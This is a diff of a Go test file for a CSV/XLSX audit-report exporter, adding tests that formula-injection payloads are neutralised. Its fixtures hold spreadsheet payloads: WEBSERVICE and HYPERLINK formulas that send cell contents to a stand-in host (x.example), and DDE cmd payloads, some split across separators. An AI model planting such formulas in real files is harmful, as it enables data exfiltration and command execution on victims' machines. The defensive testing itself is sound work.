@@ -8,6 +8,7 @@ import (
 	"encoding/xml"
 	"fmt"
 	"io"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -24,38 +25,57 @@ func dublin(t testing.TB) *time.Location {
 	return loc
 }
 
-// testRows mixes ordinary events with every injection payload in every text column.
+// testRows mixes ordinary events with every injection payload in every text column, and
+// rows whose cells together build exfiltration formulas.
 func testRows() []Row {
 	base := time.Date(2026, 3, 29, 0, 30, 0, 0, time.UTC) // Dublin switches to IST at 01:00 UTC
 	rows := []Row{
 		{Time: base, Author: "alice@example.com", Category: "Authentication", Summary: "Login", Description: "Alice logged in, \"twice\"\nfrom the VPN", Outcome: "success", SourceIP: "10.0.0.1", Target: "alice", EventID: "e-1", Tenant: "acme"},
 		{Time: base.Add(time.Hour), Author: "Zoë Ñúñez", Category: "Users", Summary: "User created", Description: "日本語 and emoji 🎉; CRLF\r\ninside", Outcome: "failure", SourceIP: "2001:db8::1", Target: "bob", EventID: "e-2", Tenant: "acme"},
 	}
-	for i, p := range injectionPayloads {
+	payloads := slices.Clone(injectionPayloads)
+	for _, p := range embeddedPayloads {
+		payloads = append(payloads, p.in)
+	}
+	for i, p := range payloads {
 		rows = append(rows, Row{
 			Time: base.Add(time.Duration(i) * time.Minute), Author: p, Category: p, Summary: p, Description: p,
 			Outcome: p, SourceIP: p, Target: p, EventID: fmt.Sprintf("inj-%d", i), Tenant: p,
 		})
 	}
-	return rows
+	return append(rows, chainRows(base)...)
 }
 
-// expectedCells is what a reader must get back for a row: neutralised, and for CSV with LF
-// line breaks. XLSX keeps the text, except characters XML 1.0 cannot hold, which become U+FFFD.
-func expectedCells(r Row, loc *time.Location, csvLineBreaks bool) []string {
+// chainRows build formulas out of several cells: each cell alone looks like text, but a
+// reader that splits on ";" or "," (or joins cells back) would get WEBSERVICE, HYPERLINK or
+// DDE formulas that send another cell (A2: the date, B2: the author) to a remote host.
+func chainRows(at time.Time) []Row {
+	return []Row{
+		{Time: at, Author: "bob", Category: `x;=WEBSERVICE("http://x.example/?"`, Summary: `&A2)`, Description: "secret", EventID: "chain-1"},
+		{Time: at, Author: `x,=WEBSERVICE(CONCATENATE("http://x.example/?",B2`, Category: `,C2))`, EventID: "chain-2"},
+		{Time: at, Author: "carol", Summary: `note;=HYPERLINK("http://x.example/?"&A2;"Click to view")`, EventID: "chain-3"},
+		{Time: at, Author: "dave", Description: "ok\t=cmd|' /C calc'!A0", Target: "x;@SUM(1+1)*cmd|' /C calc'!A0", EventID: "chain-4"},
+		{Time: at, Author: "erin", Description: "line 1\r\n=WEBSERVICE(\"http://x.example/?\"&B2)", EventID: "chain-5"},
+		{Time: at, Author: "frank", Description: `a;"=WEBSERVICE(""http://x.example/"")"`, SourceIP: "10.0.0.1;+1", EventID: "chain-6"},
+	}
+}
+
+// expectedCells is what a reader must get back for a row: for CSV, SafeCSVCell's text;
+// XLSX keeps SafeCell's text, except characters XML 1.0 cannot hold, which become U+FFFD.
+func expectedCells(r Row, loc *time.Location, csvCells bool) []string {
 	cells := make([]string, len(Columns))
+	if csvCells {
+		r.cells(cells, loc, SafeCSVCell)
+		return cells
+	}
 	r.cells(cells, loc, SafeCell)
 	for i, c := range cells {
-		if csvLineBreaks {
-			cells[i] = strings.ReplaceAll(strings.ReplaceAll(c, "\r\n", "\n"), "\r", "\n")
-		} else {
-			cells[i] = strings.Map(func(r rune) rune {
-				if !xmlLegal(string(r)) {
-					return '\uFFFD'
-				}
-				return r
-			}, c)
-		}
+		cells[i] = strings.Map(func(r rune) rune {
+			if !xmlLegal(string(r)) {
+				return '\uFFFD'
+			}
+			return r
+		}, c)
 	}
 	return cells
 }
@@ -95,15 +115,89 @@ func TestCSVRoundTrip(t *testing.T) {
 	// Dates carry the zone's offset across the DST change.
 	assert.Equal(t, "2026-03-29T00:30:00+00:00", records[1][0])
 	assert.Equal(t, "2026-03-29T02:30:00+01:00", records[2][0])
-	// RFC 4180 records end in CRLF.
-	assert.Contains(t, string(out), "Tenant\r\n")
+	// RFC 4180 records end in CRLF, and every field is quoted.
+	assert.Contains(t, string(out), "\"Tenant\"\r\n")
+	assertAllQuoted(t, bytes.TrimPrefix(out, []byte(utf8BOM)))
+	// Split on any separator, ignoring quotes, as Excel in a ";" locale or a line-based
+	// tool might: no piece is a formula.
+	assertNoSegmentTrigger(t, string(out))
+}
+
+// TestCSVSemicolonLocale: the cell that Excel with ";" as list separator used to split into
+// "x" and a DDE formula is one quoted field, and its second half is neutralised.
+func TestCSVSemicolonLocale(t *testing.T) {
+	out := string(render(t, FormatCSV, []Row{{Author: "x;=cmd|' /C calc'!A0", Description: "plain", EventID: "e-1"}}, time.UTC, WithBOM(false)))
+	assert.Contains(t, out, `,"x;'=cmd|' /C calc'!A0",`)
+	lines := strings.Split(strings.TrimSuffix(out, "\r\n"), "\r\n")
+	require.Len(t, lines, 2)
+	assert.Equal(t, `"","x;'=cmd|' /C calc'!A0","","","plain","","","","e-1",""`, lines[1])
+	for _, piece := range strings.Split(lines[1], ";") {
+		assertNoLeadingTrigger(t, strings.TrimLeft(piece, `"`))
+	}
+}
+
+// TestCSVExfiltrationChains: cells that build WEBSERVICE, HYPERLINK and DDE formulas across
+// separators come back with every piece neutralised, in CSV; XLSX keeps each cell as text.
+func TestCSVExfiltrationChains(t *testing.T) {
+	rows := chainRows(time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC))
+	out := render(t, FormatCSV, rows, time.UTC, WithBOM(false))
+	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, records, len(rows)+1)
+	for i, row := range rows {
+		assert.Equal(t, expectedCells(row, time.UTC, true), records[i+1])
+	}
+	assert.Equal(t, `x;'=WEBSERVICE("http://x.example/?"`, records[1][2])
+	assert.Equal(t, `x,'=WEBSERVICE(CONCATENATE("http://x.example/?",B2`, records[2][1])
+	assert.Equal(t, `note;'=HYPERLINK("http://x.example/?"&A2;"Click to view")`, records[3][3])
+	assert.Equal(t, "ok\t'=cmd|' /C calc'!A0", records[4][4])
+	assert.Equal(t, "line 1\n'=WEBSERVICE(\"http://x.example/?\"&B2)", records[5][4])
+	assert.Equal(t, `a;'"=WEBSERVICE(""http://x.example/"")"`, records[6][4])
+	assert.Equal(t, "10.0.0.1;'+1", records[6][6])
+	assertNoSegmentTrigger(t, string(out))
+
+	xout := render(t, FormatXLSX, rows, time.UTC)
+	assertNoFormulaXML(t, xout)
+}
+
+// assertAllQuoted checks that every field of every record is quoted (RFC 4180 with
+// quoting on): a field opens with '"', '""' inside is a quote, and a field closes with '"'
+// followed by ',' or CRLF.
+func assertAllQuoted(t testing.TB, b []byte) {
+	t.Helper()
+	for i := 0; i < len(b); {
+		if b[i] != '"' {
+			t.Fatalf("byte %d: field does not start with a quote: %q", i, b[i:min(len(b), i+20)])
+		}
+		i++
+		for {
+			j := bytes.IndexByte(b[i:], '"')
+			if j < 0 {
+				t.Fatalf("unterminated field at byte %d", i)
+			}
+			i += j + 1
+			if i < len(b) && b[i] == '"' {
+				i++
+				continue
+			}
+			break
+		}
+		switch {
+		case i < len(b) && b[i] == ',':
+			i++
+		case bytes.HasPrefix(b[i:], []byte("\r\n")):
+			i += 2
+		default:
+			t.Fatalf("byte %d: field not followed by a comma or CRLF: %q", i, b[i:min(len(b), i+20)])
+		}
+	}
 }
 
 func TestCSVWithoutBOMAndEmpty(t *testing.T) {
 	var buf bytes.Buffer
 	w := NewCSV(&buf, nil, WithBOM(false))
 	require.NoError(t, w.Close())
-	assert.Equal(t, strings.Join(Columns, ",")+"\r\n", buf.String(), "an empty report still has its header")
+	assert.Equal(t, `"`+strings.Join(Columns, `","`)+"\"\r\n", buf.String(), "an empty report still has its header")
 }
 
 func TestCSVInvalidUTF8(t *testing.T) {
